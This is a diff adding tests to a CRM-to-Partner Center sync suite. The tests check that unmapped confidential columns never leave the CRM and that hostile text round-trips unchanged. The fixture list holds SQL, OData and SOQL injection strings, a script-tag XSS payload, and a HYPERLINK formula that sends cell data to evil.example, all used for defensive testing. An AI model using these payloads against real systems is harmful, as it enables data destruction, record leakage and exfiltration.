@@ -223,6 +223,38 @@ describe.each([
     side().people.do({ deed: 'show', id: desk.link.recordId ?? '', values: {} });
   });
 
+  it('carries nothing to Partner Center that stands in a column which the mapping does not name', async () => {
+    const desk = await linked();
+    const cells = side().rows.get(columns.table, desk.link.recordId ?? '')?.cells ?? {};
+    const { fields, columns: named } = desk.mapping;
+    const mapped = [...Object.values(fields), ...Object.values(named).map((column) => ({ column, rule: 'both' }))];
+    const carried = mapped.filter(({ rule }) => rule !== 'off').map(({ column }) => column);
+    const others = Object.keys(cells).filter((name) => !carried.includes(name) && typeof cells[name] !== 'boolean');
+    const texts = others.filter((name) => cells[name] === null || name === columns.description);
+    expect(texts).toContain(columns.description);
+    for (const name of texts) cells[name] = `confidential ${name}`;
+    await stage.edit(desk.link.recordId ?? '', { closeDate: '2027-08-08', notes: 'For Microsoft' });
+    await desk.settles(3);
+    expect(desk.memory.referral.record).toMatchObject({ notes: 'For Microsoft' });
+    expect(JSON.stringify([desk.memory.referral, desk.link])).not.toContain('confidential');
+    const asked = requests().map(({ target }) => decodeURIComponent(target));
+    expect(asked.filter((target) => /[=, +]description[, +&]/i.test(target))).toEqual([]);
+  });
+
+  it('carries hostile texts both ways as the texts that they are', async () => {
+    const desk = await linked();
+    for (const [index, text] of hostile.entries()) {
+      if (index % 2 === 0) desk.memory.edit({ notes: text });
+      else await stage.edit(desk.link.recordId ?? '', { notes: text });
+      await desk.settles(3);
+      expect((await desk.record()).values.notes, text).toBe(text);
+      expect(desk.memory.referral.record.notes, text).toBe(text);
+    }
+    // Nobody else's record was met.
+    expect(await stage.crm.find({ referralId: "' or 1 eq 1 or '", recordId: "') or (1 eq 1" })).toEqual([]);
+    expect(await stage.crm.searchAccounts({ name: "%' OR Name LIKE '%", address: {} })).toEqual([]);
+  });
+
   it('lives beside Microsoft’s connector: its marks come back nowhere, and nothing goes to and fro', async () => {
     fault({ kind: 'connectorBeside' });
     const desk = await linked({ record: { name: 'Data platform' } });
@@ -250,6 +282,15 @@ const passing: readonly CrmFaultSpec[] = [
   { kind: 'cutBefore', count: 1 },
   { kind: 'cutAfter', count: 1, methods: ['PATCH'] },
   { kind: 'maintenance', count: 2 },
+];
+
+const hostile: readonly string[] = [
+  "O'Neil & Söhne'); DROP TABLE opportunity;-- 100 %27 %2527",
+  '=HYPERLINK("https://evil.example?"&A1,"x")',
+  "' or 1 eq 1 or '\\' OR Name != null",
+  `<script>alert(1)</script> [press](https://evil.example) \${card.secret} {{notes}}`,
+  '한빛소프트 – 株式会社 – ООО «Ромашка» – שלום – \u{1F468}\u{200D}\u{1F469}\u{200D}\u{1F467}',
+  `long ${'x'.repeat(1_900)}`,
 ];
 
 const dynamicsColumns = {
